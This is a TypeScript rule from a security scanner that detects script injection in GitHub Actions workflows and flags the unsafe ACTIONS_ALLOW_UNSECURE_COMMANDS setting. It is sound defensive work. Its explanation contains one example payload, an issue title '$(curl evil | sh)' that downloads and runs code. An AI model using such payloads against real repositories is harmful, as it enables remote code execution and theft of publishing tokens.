import { get, string, type TreeScalar } from '../../formats/tree.ts'
import type { Observation } from '../../model/finding.ts'
import type { FileRule } from '../../model/rule.ts'
import type { Severity } from '../../model/severity.ts'
import { type Expression, expressionsIn, writerOf } from './code/expressions.ts'
import { environment } from './code/read-workflow.ts'
import { PRIVILEGED_TRIGGERS, type Workflow, WORKFLOW_FILES, workflowOf, type WorkflowStep } from './code/workflow.ts'
import { listed, placed, reported, shown } from './report.ts'

/** Text of strangers is put into a script of a workflow before it runs. */
export const workflowInjection: FileRule = {
  id: 'configuration/workflow-injection',
  title: 'Text that strangers write becomes part of a script of a workflow.',
  severity: 'critical',
  why: 'An expression in a script is replaced before any shell sees it: an issue titled $(curl evil | sh) runs. In August 2025 the title of a pull request was enough to take the publishing token of Nx, and in December 2024 the name of a branch to put a miner into ultralytics.',
  fix: 'Give the value to the step in env and use it as a quoted shell variable.',
  references: [
    'https://docs.github.com/en/actions/reference/security/secure-use',
    'https://securitylab.github.com/resources/github-actions-untrusted-input/',
    'https://cwe.mitre.org/data/definitions/94.html',
  ],
  files: WORKFLOW_FILES,
  async *inspect(file) {
    const workflow = await workflowOf(file)
    for (const job of workflow.jobs) {
      for (const [index, step] of job.steps.entries()) {
        for (const [writer, found] of Map.groupBy(injections(step, workflow), ({ text }) => writerOf(text))) {
          if (writer !== 'nobody') yield observed(workflow, found, writer, `${job.name} ${nameOf(step, index)}`)
        }
      }
    }
    const unsecure = commandsByOutput(workflow)
    if (unsecure !== undefined) yield unsecure
  },
}

/** `run`, and `script` of actions/github-script: both are code. */
function injections({ run, uses, value }: WorkflowStep, { document }: Workflow): readonly Expression[] {
  const code: TreeScalar[] = run === undefined ? [] : [run]
  const script = get(get(value, 'with'), 'script')
  if (/^actions\/github-script@/i.test(uses?.source ?? '') && script?.kind === 'scalar') code.push(script)
  return code.flatMap((one) => expressionsIn(document, one))
}

function nameOf({ value }: WorkflowStep, index: number): string {
  return shown(string(get(value, 'id')) ?? string(get(value, 'name')) ?? `step ${index + 1}`, 80)
}

function observed(
  workflow: Workflow,
  found: readonly Expression[],
  writer: 'anyone' | 'member',
  step: string,
): Observation {
  const names = [...new Set(found.map(({ text }) => shown(text, 80)))]
  const severity = severityOf(workflow, writer)
  const [first = ''] = names
  const variable = variableFor(first)
  return reported({
    severity,
    title: `${listed(names, 3)} ${names.length === 1 ? 'becomes' : 'become'} part of a script`,
    message: `${writer === 'anyone' ? 'Anybody who can open an issue or a pull request writes this text' : 'Whoever starts or calls this writes this text'}, and the shell runs what is in it.${
      severity === 'critical'
        ? ' The workflow is started by strangers with the rights and secrets of the repository.'
        : ''
    }`,
    because: 'the service replaces expressions before it hands the script to the shell',
    confidence: writer === 'anyone' ? 'high' : 'medium',
    evidence: found.map(({ text, offset }) => placed(workflow.place(offset), `\${{ ${text} }}`)),
    fix: {
      text: 'Give the value to the step in env and use it as a quoted shell variable.',
      remedy: {
        edit: `env: { ${variable}: '\${{ ${first} }}' } and "$${variable}" in the script`,
        file: workflow.path,
      },
    },
    identity: `${workflow.path} ${step} ${writer}`,
  })
}

function variableFor(expression: string): string {
  const last = /([A-Za-z_]\w{0,40})\W{0,20}$/.exec(expression)?.[1] ?? 'VALUE'
  return last.toUpperCase()
}

function severityOf({ triggers, isAction }: Workflow, writer: 'anyone' | 'member'): Severity {
  if (writer === 'member') return 'low'
  if (triggers.some(({ name }) => PRIVILEGED_TRIGGERS.has(name))) return 'critical'
  if (isAction) return 'high'
  // Runs of forks have no secrets and a token that only reads; branch names and titles of members are theirs.
  return 'medium'
}

/** With this variable any line of output can set variables of later steps (CVE-2020-15228). */
function commandsByOutput(workflow: Workflow): Observation | undefined {
  const levels = [workflow.root, ...workflow.jobs.flatMap((job) => [job.value, ...job.steps.map(({ value }) => value)])]
  const set = levels
    .flatMap((level) => environment(get(level, 'env'), workflow))
    .find(({ name, value }) => name === 'ACTIONS_ALLOW_UNSECURE_COMMANDS' && /^true$/i.test(value ?? ''))
  if (set === undefined) return undefined
  return reported({
    severity: 'high',
    title: 'Lines of output may set variables of later steps',
    message:
      'ACTIONS_ALLOW_UNSECURE_COMMANDS brings back commands that were removed because everything that is printed, a file name or the title of an issue included, could set PATH or NODE_OPTIONS for the steps that follow (CVE-2020-15228).',
    because: 'the variable is set to true',
    evidence: [placed(set.location, 'ACTIONS_ALLOW_UNSECURE_COMMANDS: true')],
    fix: { text: 'Remove the variable and write to $GITHUB_ENV and $GITHUB_PATH instead.' },
    identity: `${workflow.path} unsecure commands`,
  })
}
